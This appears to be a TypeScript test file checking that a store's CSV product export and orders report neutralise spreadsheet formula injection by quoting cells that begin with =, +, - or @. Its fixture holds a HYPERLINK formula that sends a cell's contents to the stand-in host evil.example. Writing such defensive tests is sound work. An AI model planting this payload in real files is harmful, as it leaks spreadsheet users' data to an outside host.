import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ImportSummary } from '../../../contract/catalog-import';
import { runImports } from '../../modules/catalog/import-job';
import { insertProduct } from '../../test/fixtures';
import type { TestApp } from '../../test/harness';
import { signUp, type TestSession, uniqueEmail } from '../../test/sessions';
import { as, createAdminApp, payOrder, placeOrder } from '../../test/store-flow';
import { products } from '../db/schema';

/**
 * The CSV files the store writes, opened as a spreadsheet would (docs/decisions/072): a text cell
 * that starts with =, +, - or @ is written with a leading quote, so it shows as text and runs
 * nothing; plain numbers stay numbers; and what the catalog export writes, the import reads back
 * as it was.
 */

let t: TestApp;
let admin: TestSession;

beforeAll(async () => {
  ({ t, admin } = await createAdminApp());
});
afterAll(async () => {
  await t.close();
});

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const download = async (url: string) => {
  const res = await t.app.inject({ method: 'GET', url, headers: as(admin) });
  expect(res.statusCode, res.body).toBe(200);
  expect(res.headers['content-type']).toMatch(/^text\/csv/);
  return { body: res.body, rows: parse(res.body, { columns: true }) as Array<Record<string, string>> };
};
const upload = async (csv: string) => {
  const res = await t.app.inject({
    method: 'POST',
    url: '/api/catalog/imports?kind=products&name=supplier.csv',
    headers: { ...as(admin), 'content-type': 'text/csv' },
    payload: csv,
  });
  expect(res.statusCode, res.body).toBe(201);
  return res.json() as ImportSummary;
};

describe('the products export', () => {
  it('quotes the cells a spreadsheet would run, keeps the numbers, and reads back unchanged', async () => {
    const supplier = [
      'sku,name,description,price,brand,part_number,core_charge',
      `CELL-1,"${FORMULA.replaceAll('"', '""')}",-2+3 fits most cars. A part.,12.50,@SUM(1+1),+44-100,3.25`,
    ].join('\n');
    const report = await upload(supplier);
    expect(report.checked).toMatchObject({ create: 1, refuse: 0 });
    await t.app.inject({
      method: 'POST',
      url: `/api/catalog/imports/${report.id}/start`,
      headers: as(admin),
    });
    await runImports(t.database.db, { budgetMs: 60_000 });
    const [made] = await t.database.db.select().from(products).where(eq(products.sku, 'CELL-1'));
    expect(made).toMatchObject({
      name: FORMULA,
      brand: '@SUM(1+1)',
      partNumber: '+44-100',
      priceCents: 1250,
    });

    const { body, rows } = await download('/api/catalog/export/products');
    const row = rows.find((r) => r.sku === 'CELL-1');
    expect(row).toMatchObject({
      name: `'${FORMULA}`,
      description: "'-2+3 fits most cars. A part.",
      brand: "'@SUM(1+1)",
      part_number: "'+44-100",
    });
    expect(Number(row?.price)).toBe(12.5);
    expect(row?.price).toMatch(/^12\.50*$/);
    expect(row?.core_charge).toMatch(/^3\.250*$/);
    // No cell of the file starts with what a spreadsheet runs, quoted or not.
    for (const r of rows)
      for (const cell of Object.values(r))
        expect(/^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell)).toBe(false);

    // The export read back and applied: the product is unchanged, its name as it was.
    const back = await upload(body);
    expect(back.checked.refuse).toBe(0);
    await t.app.inject({ method: 'POST', url: `/api/catalog/imports/${back.id}/start`, headers: as(admin) });
    await runImports(t.database.db, { budgetMs: 60_000 });
    const rowsBack = await t.app.inject({
      method: 'GET',
      url: `/api/catalog/imports/${back.id}/rows?limit=500`,
      headers: as(admin),
    });
    expect(rowsBack.json().rows.find((r: { key: string }) => r.key === 'CELL-1')).toMatchObject({
      outcome: 'unchanged',
      reason: null,
    });
    const [after] = await t.database.db.select().from(products).where(eq(products.sku, 'CELL-1'));
    expect(after).toMatchObject({ name: FORMULA, brand: '@SUM(1+1)', partNumber: '+44-100' });
  });
});

describe('the orders file', () => {
  it('quotes an e-mail address and a product name a spreadsheet would run; money stays numbers', async () => {
    const customer = await signUp(t.app, { email: uniqueEmail('-2+3') });
    expect(customer.email.startsWith('-2+3')).toBe(true);
    const product = await insertProduct(t.database.db, {
      name: '@SUM(A1) socket',
      priceCents: 4599,
      minimumOrderQuantity: 1,
    });
    const order = await placeOrder(t.app, customer, product.id, 2);
    await payOrder(t.app, customer, order._id);
    const today = new Date().toISOString().slice(0, 10);
    const { rows } = await download(`/api/manage/reports/orders.csv?from=${today}&to=${today}`);
    const line = rows.find((r) => r.product_id === product.id);
    expect(line).toMatchObject({
      customer_email: `'${customer.email}`,
      product: "'@SUM(A1) socket",
      quantity: '2',
      unit_price: '45.99',
      line_total: '91.98',
    });
  });
});
